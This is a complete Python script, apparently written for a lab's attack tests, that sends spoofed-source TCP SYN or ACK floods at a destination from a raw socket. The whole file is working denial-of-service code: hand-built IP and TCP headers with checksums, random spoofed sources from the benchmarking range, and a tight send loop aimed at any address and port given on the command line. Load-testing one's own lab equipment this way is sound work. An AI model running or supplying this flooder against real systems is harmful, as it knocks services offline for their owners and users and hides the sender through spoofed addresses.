#!/usr/bin/env python3
"""flood: spoofed-source TCP segments at a VIP from a raw socket, as fast as Python
goes, for the lab's attack scenarios (tests/lab/t_attack.sh). Sources are drawn from
198.18.0.0/15 (the benchmarking range: nothing in the lab answers for it).

    flood.py KIND DST DPORT SECONDS       KIND: ack | syn
Prints the number of segments sent.
"""
import random
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s & 0xFFFF) + (s >> 16)
    s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def segment(src, dst, sport, dport, flags):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32),
                      random.getrandbits(32), 5 << 4, flags, 65535, 0, 0)
    ph = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    kind, dst, dport, secs = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    flags = {"ack": 0x10, "syn": 0x02}[kind]
    d = socket.inet_aton(dst)
    pkts = []
    for i in range(4096):
        src = struct.pack("!I", 0xC6120000 + random.randrange(1 << 17))
        pkts.append(segment(src, d, 1024 + random.randrange(60000), dport, flags))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_IP, socket.IP_HDRINCL, 1)
    sent, end, addr = 0, time.monotonic() + secs, (dst, 0)
    while time.monotonic() < end:
        for p in pkts[:1024] if sent % 4096 else pkts:
            try:
                s.sendto(p, addr)
                sent += 1
            except OSError:     # a full socket buffer: the link is saturated
                pass
    print(sent)


if __name__ == "__main__":
    main()
